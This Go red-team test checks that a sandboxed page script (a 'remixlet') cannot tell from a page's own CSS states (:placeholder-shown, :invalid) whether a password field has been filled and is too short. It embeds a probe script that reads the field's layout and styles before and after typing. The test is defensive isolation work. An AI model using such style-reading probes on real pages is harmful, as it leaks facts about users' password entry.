// TestRedteamPageStylesTellRemixletsNothing: the page's own styles follow what is typed (a
// floating label on :placeholder-shown, an outline on :invalid with minlength): a remixlet's
// layout reads do not tell before from after.
func TestRedteamPageStylesTellRemixletsNothing(t *testing.T) {
	wit := &witness{}
	h := startHostileWorld(t, wit, map[string]http.Handler{"fields.test": rtFieldsSite(0, 0), "witness.test": wit})
	c := []policyCase{{name: "measure the page's own field styles", body: `const m = async () => {
  const out = [];
  try { out.push((await dom.rect(await dom.query('#lbl'))).y); } catch (e) { out.push('refused'); }
  try { out.push(await dom.style(await dom.query('#pw'), 'outline-width')); } catch (e) { out.push('refused'); }
  try { out.push(await dom.style(await dom.query('#lbl'), 'font-size')); } catch (e) { out.push('refused'); }
  return out.join(',');
};
const before = await m();
await dom.waitFor('#go', { timeout: 60000 });
await rmx.storage.set('read', JSON.stringify([before, await m()]));`}}
	rxs := h.addPolicy(c, "https://fields.test/styled*")
	h.rtFieldsRun("https://fields.test/styled", c, rxs, [][2]string{{`document.getElementById('pw').focus()`, "hunt"}},
		`document.getElementById('pw').value === 'hunt' && document.getElementById('pw').matches(':invalid')`)
	v := h.storedString(rxs[0], "read")
	t.Logf("before and after: %s", v)
	var m []string
	if err := json.Unmarshal([]byte(v), &m); err != nil || len(m) != 2 {
		t.Fatalf("the remixlet stored %q\n%s", v, h.diagnose(rxs[0]))
	}
	if strings.Contains(m[0], "refused") {
		t.Errorf("layout reads were refused before anything was typed: %q", m[0])
	}
	if m[1] != m[0] && m[1] != "refused,refused,refused" {
		t.Errorf("before typing %q, after %q: the page's own styles told the remixlet the field was filled and too short", m[0], m[1])
	}
}
